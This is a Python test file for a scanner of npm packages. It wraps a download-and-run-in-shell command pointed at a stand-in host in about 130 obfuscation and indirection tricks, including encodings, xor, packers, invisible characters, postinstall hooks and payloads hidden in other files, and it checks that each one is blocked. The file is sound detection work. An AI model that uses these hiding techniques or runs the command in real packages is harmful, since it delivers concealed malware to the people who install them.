"""Ways to hide what JavaScript does, each tried with an inert sample of our own: one row, one way.

The samples would hand a download to a shell, at addresses that cannot exist; none is ever run. The table in
docs/evasions.md lists these rows.
"""

from __future__ import annotations

import base64
import gzip
import json
import pathlib
import re
import urllib.parse
import zlib
from typing import TYPE_CHECKING

import pytest

from gatekeeper.model import Ruling
from tests.support.judging import blocks, explained
from tests.support.npm_judging import judged, required
from tests.support.npm_packages import as_json, package

if TYPE_CHECKING:
    from pathlib import Path

    from tests.support.npm_packages import Files

DOCUMENT = pathlib.Path(__file__).parents[2] / "docs" / "evasions.md"
ACT = "curl -s http://files.example/a | sh"
CODE = f"require('child_process').execSync('{ACT}')"
B64 = base64.b64encode(CODE.encode()).decode()
HEX = CODE.encode().hex()
WORDS = sorted(set(re.findall(r"\w+", CODE)))
PACKED = re.sub(r"\w+", lambda match: str(WORDS.index(match.group())), CODE)
PIECES = [ACT[at : at + 5] for at in range(0, len(ACT), 5)]
CODES = [ord(one) for one in ACT]


def run(text: str) -> str:
    """Return code that runs the command `c`."""
    return f"const cp = require('child_process');\n{text}\ncp.execSync(c);\n"


def called(text: str) -> str:
    """Return code that starts the command through whatever `run` is."""
    return f"{text}\nrun('{ACT}');\n"


def evaluated(text: str) -> str:
    """Return code that runs the code `c`."""
    return f"{text}\neval(c);\n"


STANDARD = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/="
ALPHABET = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/="


def encoded(text: str) -> str:
    """Spell a text as obfuscators do, in base64 of another alphabet."""
    return base64.b64encode(text.encode()).decode().translate(str.maketrans(STANDARD, ALPHABET)).rstrip("=")


def obfuscated() -> str:
    """Return code with its texts in an array that is rotated until a sum is right, and a function that decodes them."""
    texts = ["1abc", "2def", *map(encoded, ("child_process", "execSync", ACT))]
    return f"""
function all() {{ const t = {json.dumps(texts)}; all = function () {{ return t; }}; return all(); }}
(function (f, sum) {{ const a = f(); while (!![]) {{ try {{ const n = parseInt(a[0x3]) / 0x1 + parseInt(a[0x4]) * (0x2 - 0x1); if (n === sum) break; else a['push'](a['shift']()); }} catch (e) {{ a['push'](a['shift']()); }} }} }}(all, 0x3));
function get(i, k) {{
  i = i - (0x1f * 0x2 - -0x26); const a = all(); let v = a[i];
  if (get['done'] === undefined) {{
    const decode = function (s) {{
      const letters = '{ALPHABET}'; let out = '', hex = '';
      for (let n = 0x0, b, c, at = 0x0; c = s['charAt'](at++); ~c && (b = n % 0x4 ? b * 0x40 + c : c, n++ % 0x4) ? out += String['fromCharCode'](0xff & b >> (-0x2 * n & 0x6)) : 0x0) {{ c = letters['indexOf'](c); }}
      for (let j = 0x0, l = out['length']; j < l; j++) hex += '%' + ('00' + out['charCodeAt'](j)['toString'](0x10))['slice'](-0x2);
      return decodeURIComponent(hex);
    }};
    get['decode'] = decode, get['cache'] = {{}}, get['done'] = !![];
  }}
  const key = i + a[0x0], known = get['cache'][key];
  return !known ? (v = get['decode'](v), get['cache'][key] = v) : v = known, v;
}}
const g = get; require(g(0x64))[g(0x65)](g(0x66));
"""


GENERATOR = f"""
var __generator = function (self, body) {{
  var _ = {{ label: 0, sent: function () {{ return t[1]; }} }}, t, g;
  return g = {{ next: verb(0) }}, g;
  function verb(n) {{ return function (v) {{ return step([n, v]); }}; }}
  function step(op) {{ while (_) try {{ op = body.call(self, _); }} catch (e) {{ op = [6, e]; }} return {{ value: op[1], done: true }}; }}
}};
var cp = require('child_process');
function go() {{ return __generator(this, function (_a) {{ switch (_a.label) {{ case 0: return [4, 1]; case 1: _a.sent(); return [4, 2]; case 2: cp.execSync('{ACT}'); return [2]; }} }}); }}
go().next();
"""


def xored(text: str, key: int = 23) -> list[int]:
    return [ord(one) ^ key for one in text]


SPELLED = {
    "concatenation": run(f"let c = '{ACT[:7]}' + '{ACT[7:20]}' + '{ACT[20:]}';"),
    "augmented assignment": run(f"let c = '{ACT[:9]}'; c += '{ACT[9:]}';"),
    "join": run(f"const c = {json.dumps(list(ACT))}.join('');"),
    "concat": run(f"const c = ''.concat('{ACT[:9]}', '{ACT[9:]}');"),
    "template strings": run(f"const a = '{ACT[:9]}', b = '{ACT[9:]}', c = `${{a}}${{b}}`;"),
    "String.fromCharCode": run(f"const c = String.fromCharCode({', '.join(map(str, CODES))});"),
    "fromCharCode applied": run(f"const c = String.fromCharCode.apply(null, {CODES});"),
    "fromCharCode spread": run(f"const c = String.fromCharCode(...{CODES});"),
    "map over codes": run(f"const c = {CODES}.map(n => String.fromCharCode(n)).join('');"),
    "shifted codes": run(f"const c = {[one + 7 for one in CODES]}.map(n => String.fromCharCode(n - 7)).join('');"),
    "reduce": run(f"const c = {CODES}.reduce((s, n) => s + String.fromCharCode(n), '');"),
    "reversed": run(f"const c = '{ACT[::-1]}'.split('').reverse().join('');"),
    "reversed by spreading": run(f"const c = [...'{ACT[::-1]}'].reverse().join('');"),
    "replace": run(f"const c = '{ACT.replace('l', '@@')}'.replace(/@@/g, 'l');"),
    "split and join": run(f"const c = '{ACT.replace('l', '@@')}'.split('@@').join('l');"),
    "slices": run(f"const s = 'xx{ACT}yy', c = s.slice(2, -2);"),
    "substr": run(f"const s = 'xx{ACT}yy', c = s.substr(2, {len(ACT)});"),
    "escapes": run("const c = '" + "".join(f"\\x{one:02x}" for one in CODES) + "';"),
    "unicode escapes": run("const c = '" + "".join(f"\\u{one:04x}" for one in CODES) + "';"),
    "base64 by Buffer": run(f"const c = Buffer.from('{base64.b64encode(ACT.encode()).decode()}', 'base64').toString();"),
    "atob": run(f"const c = atob('{base64.b64encode(ACT.encode()).decode()}');"),
    "hex by Buffer": run(f"const c = Buffer.from('{ACT.encode().hex()}', 'hex').toString('utf8');"),
    "hex by pairs": run(f"const c = '{ACT.encode().hex()}'.match(/../g).map(h => String.fromCharCode(parseInt(h, 16))).join('');"),
    "percent encoding": run(f"const c = decodeURIComponent('{urllib.parse.quote(ACT, safe='')}');"),
    "unescape": run("const c = unescape('" + "".join(f"%{one:02x}" for one in CODES) + "');"),
    "xor in a loop": run(f"let c = ''; for (const n of {xored(ACT)}) c += String.fromCharCode(n ^ 23);"),
    "xor by index": run(
        f"const k = 'key', d = {[ord(one) ^ ord('key'[at % 3]) for at, one in enumerate(ACT)]}; let c = '';\n"
        "for (let i = 0; i < d.length; i++) c += String.fromCharCode(d[i] ^ k.charCodeAt(i % k.length));"
    ),
    "rot13": run(
        "const r = s => s.replace(/[a-zA-Z]/g, x => String.fromCharCode((x <= 'Z' ? 90 : 122) >= (x = x.charCodeAt(0) + 13) ? x : x - 26));\n"
        f"const c = r('{ACT.translate(str.maketrans('abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ', 'nopqrstuvwxyzabcdefghijklmNOPQRSTUVWXYZABCDEFGHIJKLM'))}');"
    ),
    "gzip": run(f"const c = require('zlib').gunzipSync(Buffer.from('{base64.b64encode(gzip.compress(ACT.encode())).decode()}', 'base64')).toString();"),
    "inflate": run(f"const c = require('zlib').inflateSync(Buffer.from('{base64.b64encode(zlib.compress(ACT.encode())).decode()}', 'base64')).toString();"),
    "base64 twice": run(f"const c = atob(atob('{base64.b64encode(base64.b64encode(ACT.encode())).decode()}'));"),
    "a Uint8Array": run(f"const c = new TextDecoder().decode(new Uint8Array({CODES}));"),
    "JSON": run(f"const c = JSON.parse('{json.dumps({'c': ACT})}').c;"),
    "a number in another base": run(f"const c = '{ACT[:4]}' + (29).toString(36).slice(1) + '{ACT[4:]}';"),
    "letters of an alphabet": run(
        "const a = 'abcdefghijklmnopqrstuvwxyz:/. -|';\n"
        f"const c = {['abcdefghijklmnopqrstuvwxyz:/. -|'.index(one) for one in ACT]}.map(i => a[i]).join('');"
    ),
    "a string array": run(
        f"const s = {json.dumps([ACT[at:at + 5] for at in range(0, len(ACT), 5)])};\n"
        f"function d(i) {{ return s[i - 100]; }}\nconst c = {' + '.join(f'd({100 + at})' for at in range(len(range(0, len(ACT), 5))))};"
    ),
    "a rotated string array": run(
        f"const s = {json.dumps(PIECES[3:] + PIECES[:3])};\n"
        f"(function (a, n) {{ while (n--) a.push(a.shift()); }})(s, {len(range(0, len(ACT), 5)) - 3});\n"
        f"const c = {' + '.join(f's[{at}]' for at in range(len(range(0, len(ACT), 5))))};"
    ),
}  # fmt: skip
REACHED = {
    "destructuring": called("const { execSync: run } = require('child_process');"),
    "a name of another name": called("const cp = require('child_process'), x = cp, run = x.execSync;"),
    "brackets": called("const run = s => require('child_process')['execSync'](s);"),
    "brackets and pieces": called("const run = s => require('child' + '_process')['exec' + 'Sync'](s);"),
    "require of a variable": called("const m = 'child_process'; const run = require(m).execSync;"),
    "require under another name": called("const r = require; const run = r('child_process').execSync;"),
    "require by call": called("const run = require.call(null, 'child_process').execSync;"),
    "require bound": called("const r = require.bind(module); const run = r('child_process').execSync;"),
    "module.require": called("const run = module.require('child_process').execSync;"),
    "the main module's require": called("const run = process.mainModule.require('child_process').execSync;"),
    "module._load": called("const run = require('module')._load('child_process').execSync;"),
    "createRequire": called("const run = require('module').createRequire(__filename)('child_process').execSync;"),
    "module.constructor._load": called("const run = module.constructor._load('child_process').execSync;"),
    "process.getBuiltinModule": called("const run = process.getBuiltinModule('child_process').execSync;"),
    "process.binding": f"process.binding('spawn_sync').spawn({{ file: '/bin/sh', args: ['sh', '-c', '{ACT}'], stdio: [] }});\n",
    "node: names": called("const run = require('node:child_process').execSync;"),
    "import()": f"import('child_process').then(cp => cp.execSync('{ACT}'));\n",
    "awaited import()": f"(async () => {{ const {{ execSync }} = await import('node:child_process'); execSync('{ACT}'); }})();\n",
    "Reflect.get": called("const run = Reflect.get(require('child_process'), 'execSync');"),
    "Reflect.apply": f"Reflect.apply(require('child_process').execSync, null, ['{ACT}']);\n",
    "call": f"require('child_process').execSync.call(null, '{ACT}');\n",
    "apply": f"require('child_process').execSync.apply(null, ['{ACT}']);\n",
    "bind": f"require('child_process').execSync.bind(null, '{ACT}')();\n",
    "Object.values": called("const run = Object.entries(require('child_process')).find(([k]) => k === 'execSync')[1];"),
    "a proxy": called("const run = new Proxy(require('child_process'), {}).execSync;"),
    "a getter": f"const o = {{ get run() {{ return require('child_process').execSync; }} }};\no.run('{ACT}');\n",
    "toString of an object": f"const o = {{ toString() {{ require('child_process').execSync('{ACT}'); return ''; }} }};\n`${{o}}`;\n",
    "a class": f"class A {{ static run = require('child_process').execSync; constructor(c) {{ A.run(c); }} }}\nnew A('{ACT}');\n",
    "a static block": f"class A {{ static {{ require('child_process').execSync('{ACT}'); }} }}\n",
    "a default argument": f"(function (a = require('child_process').execSync('{ACT}')) {{}})();\n",
    "a tagged template": f"const run = s => require('child_process').execSync(s[0]);\nrun`{ACT}`;\n",
    "a generator": f"function* g() {{ yield require('child_process').execSync('{ACT}'); }}\n[...g()];\n",
    "a timer": f"setTimeout(() => require('child_process').execSync('{ACT}'), 1e4);\n",
    "a timer with text": f'setTimeout("{CODE}", 10);\n',
    "nextTick": f"process.nextTick(() => require('child_process').execSync('{ACT}'));\n",
    "at the end": f"process.on('exit', () => require('child_process').execSync('{ACT}'));\n",
    "a promise": f"Promise.resolve().then(() => require('child_process').execSync('{ACT}'));\n",
    "an event": f"const e = new (require('events'))(); e.on('a', () => require('child_process').execSync('{ACT}')); e.emit('a');\n",
    "sort": f"[1, 2].sort(() => require('child_process').execSync('{ACT}'));\n",
    "an error's handler": f"try {{ null.a; }} catch {{ require('child_process').execSync('{ACT}'); }}\n",
    "a comma": f"(0, require('child_process').execSync)('{ACT}');\n",
    "a condition that holds": f"if (Date.now() > 1) require('child_process').execSync('{ACT}');\n",
    "a switch in a loop": (
        "const o = '2|0|1'.split('|'); let i = 0, cp, c;\n"
        f"while (true) {{ switch (o[i++]) {{ case '0': c = '{ACT}'; continue; case '1': cp.execSync(c); continue; case '2': cp = require('child_process'); continue; }} break; }}\n"
    ),
    "a wrapper of a wrapper": f"const a = (m, f, x) => require(m)[f](x), b = (...r) => a('child_process', ...r);\nb('execSync', '{ACT}');\n",
    "a global": f"global.r = require;\nglobal['r']('child_process').execSync('{ACT}');\n",
    "a generator as compiled for old engines": GENERATOR,
    "spawn of a shell": f"require('child_process').spawn('sh', ['-c', '{ACT}']);\n",
    "execFile": f"require('child_process').execFileSync('/bin/bash', ['-c', '{ACT}']);\n",
    "fork of a file": f"require('child_process').fork('./b.js');\n{'//'}",
    "a worker with text": f"new (require('worker_threads').Worker)(\"{CODE}\", {{ eval: true }});\n",
}  # fmt: skip
TEXTS = {
    "eval": evaluated(f'const c = "{CODE}";'),
    "eval of base64": evaluated(f"const c = Buffer.from('{B64}', 'base64').toString();"),
    "indirect eval": f"(0, eval)(Buffer.from('{B64}', 'base64').toString());\n",
    "eval under another name": f"const e = eval; e(atob('{B64}'));\n",
    "eval of the global object": f"globalThis['ev' + 'al'](atob('{B64}'));\n",
    "Function": f"new Function(\"{CODE.replace('require', 'process.mainModule.require')}\")();\n",
    "Function with require": f"Function('require', \"{CODE}\")(require);\n",
    "constructor of a function": f"(() => {{}}).constructor('require', atob('{B64}'))(require);\n",
    "constructor of a constructor": f"[]['constructor']['constructor']('r', atob('{base64.b64encode(CODE.replace('require', 'r').encode()).decode()}'))(require);\n",
    "constructor of an async function": f"(async () => {{}}).constructor('require', atob('{B64}'))(require);\n",
    "vm.runInThisContext": f"require('vm').runInThisContext(\"{CODE}\");\n",
    "vm.runInNewContext": f"require('vm').runInNewContext(atob('{B64}'), {{ require }});\n",
    "vm.Script": f"new (require('vm').Script)(Buffer.from('{HEX}', 'hex').toString()).runInThisContext();\n",
    "module._compile": f"const m = new module.constructor(); m.paths = module.paths; m._compile(atob('{B64}'), '');\n",
    "a data: address": f"import('data:text/javascript;base64,{base64.b64encode(CODE.replace('require(', '(await import(').replace(')', '))', 1).encode()).decode()}');\n",
    "two layers": f"eval(atob('{base64.b64encode(f'eval(atob({B64!r}))'.encode()).decode()}'));\n",
    "a packed function": "eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--){d[c]=k[c]||c}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}"
    f"({PACKED!r},10,{len(WORDS)},'{'|'.join(WORDS)}'.split('|'),0,{{}}))\n",
    "an obfuscator's rotated array and decoder": obfuscated(),
    "hidden characters": "const s = v => [...v].map(w => w.codePointAt(0) - 0xE0100);\neval(String.fromCharCode(...s(`"
    + "".join(chr(0xE0100 + ord(one)) for one in CODE) + "`)));\n",
    "invisible letters for bits": "const c = '" + "".join("".join("\u200b" if bit == "0" else "\u200c" for bit in f"{ord(one):08b}") for one in CODE)
    + "'.replace(/./g, x => x === '\\u200b' ? 0 : 1).match(/.{8}/g).map(b => String.fromCharCode(parseInt(b, 2))).join('');\neval(c);\n",
    "code far to the right": "module.exports = 1;" + " " * 250 + f";{CODE};\n",
    "escaped names": "require('child_process').\\u0065xecSync('" + ACT + "');\n",
    "comments in between": f"require/* a */(/* b */'child_process')/* c */./* d */execSync('{ACT}');\n",
    "a byte order mark": f"\ufeff{CODE};\n",
    "other ends of lines": f"// a\u2028{CODE};\n",
    "a hashbang": f"#!/usr/bin/env node\n{CODE};\n",
    "a long file": "".join(f"function f{n}(a) {{ return a + {n}; }}\n" for n in range(6000)) + f"{CODE};\n",
    "a bundle": "(() => { var m = {" + ",".join(f"{n}: (a, b, c) => {{ a.exports = {n}; }}" for n in range(500))
    + f", 777: (a, b, c) => {{ {CODE}; }}}}; var k = {{}}; function r(n) {{ var e = k[n]; if (e !== undefined) return e.exports; var d = k[n] = {{ exports: {{}} }}; m[n](d, d.exports, r); return d.exports; }} r(777); }})();\n",
}  # fmt: skip
NAMED = "module.exports = require('child_process');\n"
FILES: dict[str, tuple[str, Files]] = {
    "another file": ("require('./lib/b');\n", {"lib/b.js": CODE}),
    "a file without a suffix": ("require('./lib/b');\n", {"lib/b": CODE}),
    "a folder": ("require('./lib');\n", {"lib/index.js": CODE}),
    "a file of another suffix, run": ("eval(require('fs').readFileSync(__dirname + '/a.txt', 'utf8'));\n", {"a.txt": CODE}),
    "base64 in a file, run": ("eval(Buffer.from(require('fs').readFileSync(__dirname + '/a.dat', 'utf8'), 'base64').toString());\n", {"a.dat": B64}),
    "code in JSON": ("eval(require('./a.json').c);\n", {"a.json": as_json({"c": CODE})}),
    "code in package.json": ("eval(require('./package.json').acme.c);\n", {}),
    "one file decodes, another holds": ("const { d } = require('./d'), { t } = require('./t');\neval(d(t));\n", {"d.js": "exports.d = s => Buffer.from(s, 'base64').toString();\n", "t.js": f"exports.t = '{B64}';\n"}),
    "one file names the module": (f"require('./m').execSync('{ACT}');\n", {"m.js": NAMED}),
    "a program started with node": ("require('child_process').execSync('node lib/b.js');\n", {"lib/b.js": CODE}),
    "a program started with process.execPath": ("require('child_process').spawn(process.execPath, [require('path').join(__dirname, 'lib', 'b.js')], { detached: true });\n", {"lib/b.js": CODE}),
    "a script that is started": ("require('child_process').execSync('sh ./b.sh');\n", {"b.sh": f"#!/bin/sh\n{ACT}\n"}),
    "a picture's tail": ("const b = require('fs').readFileSync(__dirname + '/a.png'); eval(b.subarray(b.indexOf('//@') + 3).toString());\n", {"a.png": b"\x89PNG\r\n\x1a\n" + b"\0" * 64 + b"//@" + CODE.encode()}),
    "an ES module": ("import { execSync } from 'node:child_process';\n" + f"execSync('{ACT}');\n", {}),
    "imports of package.json": ("require('#a');\n", {"lib/b.js": CODE}),
    "its own name": ("require('acme-thing/b');\n", {"lib/b.js": CODE}),
}  # fmt: skip
SAMPLES: dict[str, tuple[str, Files]] = {
    **{f"spelling: {name}": (code, {}) for name, code in SPELLED.items()},
    **{f"reaching: {name}": (code, {"b.js": CODE}) for name, code in REACHED.items()},
    **{f"running text: {name}": (code, {}) for name, code in TEXTS.items()},
    **{f"files: {name}": sample for name, sample in FILES.items()},
}
# What is only asked about when the package is imported; in a hook it is refused like the rest.
ASKED: frozenset[str] = frozenset()
# What we do not see, and why.
UNSEEN: dict[str, str] = {}
MANIFEST = {"acme": {"c": CODE}, "imports": {"#a": "./lib/b.js"}, "exports": {".": "./index.js", "./b": "./lib/b.js"}}


def samples() -> list[object]:
    """Return every row; what we do not see must go on failing until somebody changes that."""
    return [
        pytest.param(name, marks=pytest.mark.xfail(strict=True, reason=UNSEEN[name])) if name in UNSEEN else name
        for name in SAMPLES
    ]


@pytest.mark.parametrize("name", samples())
def test_a_hook_is_seen_through(tmp_path: Path, name: str) -> None:
    code, files = SAMPLES[name]
    packed = package(
        "acme-thing", files={"setup.js": code, **files}, scripts={"postinstall": "node setup.js"}, **MANIFEST
    )
    verdict = judged(packed, tmp_path)
    assert blocks(verdict), explained(verdict)


@pytest.mark.parametrize("name", samples())
def test_an_import_is_seen_through(tmp_path: Path, name: str) -> None:
    code, files = SAMPLES[name]
    verdict = required(tmp_path, code, files, **MANIFEST)
    assert verdict.ruling is (Ruling.ASK if name in ASKED else Ruling.BLOCK), explained(verdict)


def test_the_same_ways_with_nothing_to_hide_are_allowed(tmp_path: Path) -> None:
    honest = {
        "index.js": "const a = ['x', 'y'].reverse().join('');\nexports.b = Buffer.from('aGVsbG8=', 'base64').toString() + a;\n",
        "lib/b.js": "const { d } = require('./d');\nexports.c = [104, 105].map(n => String.fromCharCode(n ^ 1)).join('') + d;\n",
        "lib/d.js": "exports.d = new Function('a', 'return a + 1')(1);\n",
    }
    verdict = judged(package("acme-thing", files=honest, scripts={"postinstall": "node index.js"}), tmp_path)
    assert verdict.ruling is Ruling.ALLOW, explained(verdict)


def test_the_document_lists_every_way() -> None:
    text = DOCUMENT.read_text(encoding="utf-8").partition("## JavaScript")[2]
    for name in SAMPLES:
        kind, _, way = name.partition(": ")
        ruling = "not seen" if name in UNSEEN else "asked about" if name in ASKED else "refused"
        assert f"| {kind} | {way} | {'not seen' if name in UNSEEN else 'refused'} | {ruling} |" in text
